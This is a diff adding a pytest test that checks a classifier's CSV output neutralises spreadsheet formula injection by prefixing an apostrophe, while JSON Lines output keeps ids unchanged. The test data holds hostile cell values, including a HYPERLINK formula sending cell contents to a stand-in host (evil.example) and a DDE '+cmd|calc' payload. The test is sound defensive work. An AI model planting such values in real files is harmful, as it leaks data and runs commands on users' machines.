@@ -181,6 +181,23 @@ def test_file_names_that_are_not_utf8_are_classified_under_printable_ids(
         assert [row["id"] for row in csv.DictReader(handle)] == expected
 
 
+@pytest.mark.fault(
+    "an input id that a spreadsheet runs as a formula (`=HYPERLINK(…)`, `+cmd|…`, `-2+3`, "
+    "`@SUM(…)`), written to CSV",
+    "written as text, with `'` in front; JSON Lines keeps it as it is",
+)
+def test_csv_output_never_holds_a_cell_a_spreadsheet_runs(monkeypatch, capsys, ckpt, tmp_path):
+    ids = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|calc!A0", "-2+3", "@SUM(A1)"]
+    table = tmp_path / "in.jsonl"
+    table.write_text("".join(json.dumps({"id": i, "body": "Shares rose."}) + "\n" for i in ids))
+    for out in ("out.csv", "out.jsonl"):
+        run_classify(monkeypatch, capsys, ckpt, [str(table), "--out", str(tmp_path / out)])
+    with open(tmp_path / "out.csv", newline="") as handle:
+        assert [row["id"] for row in csv.DictReader(handle)] == [f"'{i}" for i in ids]
+    lines = (tmp_path / "out.jsonl").read_text().splitlines()
+    assert [json.loads(line)["id"] for line in lines] == ids
+
+
 def test_csv_output_parses_with_a_column_per_class(monkeypatch, capsys, ckpt, inputs, tmp_path):
     out_file = tmp_path / "out.csv"
     run_classify(monkeypatch, capsys, ckpt, [*arguments(inputs), "--out", str(out_file)])
